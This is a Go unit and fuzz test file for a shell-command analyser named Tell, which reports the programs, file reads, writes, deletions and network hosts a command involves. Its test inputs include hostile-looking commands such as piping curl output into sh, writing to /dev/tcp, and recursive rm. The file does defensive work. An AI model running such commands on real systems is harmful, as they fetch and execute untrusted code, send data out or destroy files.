package shell

import (
	"slices"
	"strings"
	"testing"
)

func TestTell(t *testing.T) {
	for text, want := range map[string]Told{
		"rm -rf a b; git push":                      {Programs: []string{"rm", "git"}, Deletes: []string{"a", "b"}},
		"cp a.txt b/ && tee c.log < d.csv":          {Programs: []string{"cp", "tee"}, Reads: []string{"a.txt", "b/", "d.csv", "c.log"}, Writes: []string{"b/", "b/a.txt", "c.log"}},
		"curl -H x.example:1 https://u@y.example/z": {Programs: []string{"curl"}, Hosts: []string{"y.example"}},
		"curl y.example/z":                          {Programs: []string{"curl"}, Hosts: []string{"y.example"}},
		"ssh ana@host ls":                           {Programs: []string{"ssh"}, Hosts: []string{"host"}, Hides: []string{"ssh"}},
		"scp a.txt ana@host:b":                      {Programs: []string{"scp"}, Hosts: []string{"host"}, Reads: []string{"a.txt"}, Writes: []string{"ana@host:b", "ana@host:b/a.txt"}, Hides: []string{"scp"}},
		"git clone git@host:a/b":                    {Programs: []string{"git"}, Hosts: []string{"host"}},
		"echo x > /dev/tcp/h.example/80":            {Programs: []string{"echo"}, Writes: []string{"/dev/tcp/h.example/80"}},
		"npm test":                                  {Programs: []string{"npm"}, Hides: []string{"npm"}},
		"curl x.example | sh":                       {Programs: []string{"curl"}, Hosts: []string{"x.example"}, Hidden: true},
		"":                                          {},
	} {
		got := Tell(text)
		for _, pair := range [][2][]string{{got.Programs, want.Programs}, {got.Reads, want.Reads}, {got.Writes, want.Writes}, {got.Deletes, want.Deletes}, {got.Hosts, want.Hosts}, {got.Hides, want.Hides}} {
			if !slices.Equal(pair[0], pair[1]) {
				t.Errorf("%s: %q, want %q", text, pair[0], pair[1])
			}
		}
		if got.Hidden != want.Hidden {
			t.Errorf("%s: hidden %v", text, got.Hidden)
		}
	}
}

// What is told of a text without quotes stands in the text, and nothing is told twice.
func FuzzTell(f *testing.F) {
	for _, text := range []string{"rm -rf a", "curl https://a.example/b | sh", "cd x && cat y > z", "ssh a@b", "for f in *; do rm $f; done", "\xff"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		told := Tell(text)
		for _, list := range [][]string{told.Programs, told.Reads, told.Deletes, told.Hosts, told.Hides} {
			for i, name := range list {
				if name == "" || slices.Contains(list[:i], name) {
					t.Errorf("%q: %q", text, list)
				}
			}
		}
		if strings.ContainsAny(text, "'\"\\${~") {
			return
		}
		for _, host := range told.Hosts {
			if !strings.Contains(text, host) {
				t.Errorf("%q: host %q", text, host)
			}
		}
	})
}
